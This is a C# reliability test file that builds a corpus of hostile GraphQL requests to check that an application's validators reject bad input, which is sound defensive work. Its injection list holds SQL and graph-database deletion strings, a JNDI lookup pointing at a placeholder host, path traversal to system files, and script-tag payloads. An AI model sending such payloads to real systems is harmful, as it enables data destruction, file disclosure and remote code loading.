using System.Globalization;
using System.Text.Json.Nodes;

namespace InnovationNetwork.Tests.Reliability;

/// <summary>
/// A deterministic corpus of malformed and hostile requests for <c>/graphql</c> and <c>/import</c>. The argument
/// cases come from the live schema (by introspection), so a new Query field or argument is covered without edits.
/// </summary>
public sealed partial class HostileCorpus(SchemaModel schema, int seed)
{
    private const string Graphql = "/graphql";

    /// <summary>Injection syntax of every store and engine nearby, escapes that break naive quoting, and markup.</summary>
    public static readonly string[] Injections =
    [
        "' OR '1'='1", "'; DROP TABLE nodes; --", "\" OR \"\"=\"", "1) UNION SELECT name FROM sqlite_master --", "%", "_%\\", "[a-z]*",
        "MATCH (n) DETACH DELETE n", "'}) MATCH (n) RETURN n //", "$where: function() { return true }", "${jndi:ldap://example.invalid/a}",
        "*:*", "title:(robot* OR ai~2) AND NOT [a TO z]", "AND", "OR NOT", "((((", "\"unbalanced", "~2^9", "?*", "/re.*gex/",
        "\"", "\\", "\u0000", "a\u0000b", "\r\n\t\f\b", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{7*7}}", "%s%n%x", "\u202Eevil", "\uFEFF", "😀👩‍🔬", "",
        "   ", "lab:amrc' OR 1=1", "__proto__", new string('a', 3000),
    ];

    private readonly Random _random = new(seed);
    private readonly List<HostileRequest> _requests = [];

    public IReadOnlyList<ArgumentSlot> TextSlots { get; } = ArgumentSlots.Find(schema, "String", "ID");

    public IReadOnlyList<ArgumentSlot> NumberSlots { get; } = ArgumentSlots.Find(schema, "Int", "Float");

    /// <summary>Every string and ID argument of every mutation (the test sends an admin key, so they reach the validators and the store).</summary>
    public IReadOnlyList<ArgumentSlot> MutationTextSlots { get; } = ArgumentSlots.FindInMutations(schema, "String", "ID");

    public IReadOnlyList<HostileRequest> Generate()
    {
        _requests.Clear();
        AddInjections();
        AddMutationInjections();
        AddNumbers();
        AddCursorsAndIds();
        AddDocumentAbuse();
        AddNesting();
        AddBadJson();
        AddWrongMemberTypes();
        AddInvalidUtf8();
        AddHugeAndOversized();
        AddTransportMisuse();
        AddImports();
        return [.. _requests];
    }

    private void Add(HostileRequest request) => _requests.Add(request);

    private void PostVariables(string kind, ArgumentSlot slot, JsonNode? value)
    {
        var (query, variables) = ArgumentSlots.WithVariables(schema, slot, value);
        Add(HostileRequest.Post(kind + " " + slot.Name, Graphql, new JsonObject { ["query"] = query, ["variables"] = variables }.ToJsonString()));
    }

    private void PostLiteral(string kind, ArgumentSlot slot, string literal) =>
        Add(HostileRequest.Post(kind + " " + slot.Name, Graphql, new JsonObject { ["query"] = ArgumentSlots.WithLiteral(schema, slot, literal) }.ToJsonString()));

    /// <summary>Every injection in every string and ID argument, as a variable and as an inline literal; some over GET too.</summary>
    private void AddInjections()
    {
        foreach (var slot in TextSlots)
        {
            foreach (var text in Injections)
            {
                PostVariables("injection-variable", slot, JsonValue.Create(text));
                PostLiteral("injection-literal", slot, ArgumentSlots.Quote(text));
            }

            foreach (var text in Injections.Take(6))
            {
                Add(HostileRequest.Get("injection-get " + slot.Name, ArgumentSlots.WithLiteral(schema, slot, ArgumentSlots.Quote(text))));
            }

            // Wrong types where text belongs, and GraphQL escapes that decode to nothing valid.
            foreach (var literal in (string[])["\"\\uD800\"", "\"\\u0000\"", "\"\\x41\"", "\"\\u{1F600}\"", "\"\"\"block \\\"\"\" string\"\"\"", "42", "true", "[\"a\"]", "{a: 1}", "$undefined", "ENUM_VALUE"])
            {
                PostLiteral("wrong-type-literal", slot, literal);
            }

            foreach (var value in (JsonNode?[])[42, true, new JsonArray("a", 1), new JsonObject { ["a"] = 1 }, 1.5e300])
            {
                PostVariables("wrong-type-variable", slot, value);
            }
        }
    }

    /// <summary>Every injection in every string and ID argument of every mutation, as a variable.</summary>
    private void AddMutationInjections()
    {
        foreach (var slot in MutationTextSlots)
        {
            foreach (var text in Injections)
            {
                PostVariables("mutation-injection", slot, JsonValue.Create(text));
            }
        }
    }

    /// <summary>Page sizes and lengths far out of range, of the wrong type, or not numbers at all.</summary>
    private void AddNumbers()
    {
        foreach (var slot in NumberSlots)
        {
            foreach (var value in (JsonNode?[])[-1, 0, int.MaxValue, 2147483648L, -2147483649L, 1e100, 1.5, "10", true, null, new JsonArray(), new JsonObject(), long.MaxValue])
            {
                PostVariables("number-variable", slot, value);
            }

            foreach (var literal in (string[])["-1", "0", "2147483647", "2147483648", "-2147483649", "1e100", "10.0", "0x10", "1_000", "--1", "NaN", "Infinity", "99999999999999999999999999", "\"10\"", "null"])
            {
                PostLiteral("number-literal", slot, literal);
            }
        }
    }

    /// <summary>Cursors that were never issued (random, tampered, huge) and ids of every wrong shape.</summary>
    private void AddCursorsAndIds()
    {
        foreach (var slot in TextSlots.Where(s => s.Path[^1] == "after"))
        {
            var cursors = new List<string> { "", "=", "!!!", "bm90IGEgY3Vyc29y", Convert.ToBase64String("{\"score\":\"NaN\",\"id\":null}"u8), new string('A', 20_000) };
            for (var i = 0; i < 12; i++)
            {
                var bytes = new byte[_random.Next(1, 200)];
                _random.NextBytes(bytes);
                cursors.Add(i % 2 == 0 ? Convert.ToBase64String(bytes) : Convert.ToBase64String(bytes).TrimEnd('=').Replace('+', '-'));
            }

            foreach (var cursor in cursors)
            {
                PostVariables("bad-cursor", slot, cursor);
            }
        }

        foreach (var slot in TextSlots.Where(s => s.Scalar == "ID"))
        {
            foreach (var id in (string[])["lab:", ":", "lab:amrc ", "LAB:AMRC", "region:TLE3/../UK", "skill:*", "lab:%", "lab:amrc\n", "region:TLE3\u0000", new string('x', 50_000)])
            {
                PostVariables("bad-id", slot, id);
            }
        }
    }

    private string RandomWord(int length) =>
        string.Create(length, _random, static (span, random) =>
        {
            for (var i = 0; i < span.Length; i++)
            {
                span[i] = (char)('a' + random.Next(26));
            }
        });

    private static string Repeat(string text, int count) => string.Concat(Enumerable.Repeat(text, count));

    private static string Invariant(FormattableString text) => text.ToString(CultureInfo.InvariantCulture);
}
